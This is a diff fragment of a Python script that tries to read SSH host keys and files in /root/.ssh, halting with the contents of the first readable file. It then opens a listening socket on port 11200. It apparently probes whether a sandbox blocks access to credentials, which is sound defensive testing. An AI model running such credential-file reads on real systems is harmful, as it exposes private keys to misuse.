@@ -10,7 +10,7 @@ targets += glob.glob("/etc/ssh/*key*") + glob.glob("/root/.ssh/*") + glob.glob("
 for path in targets:
     try:
         shown = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(80)
-        print("OPEN", path, shown)
+        raise SystemExit("GOT %s: %s" % (path, shown))
     except OSError as error:
         print("shut", path, error.strerror)
 s = socket.create_server(("", 11200))
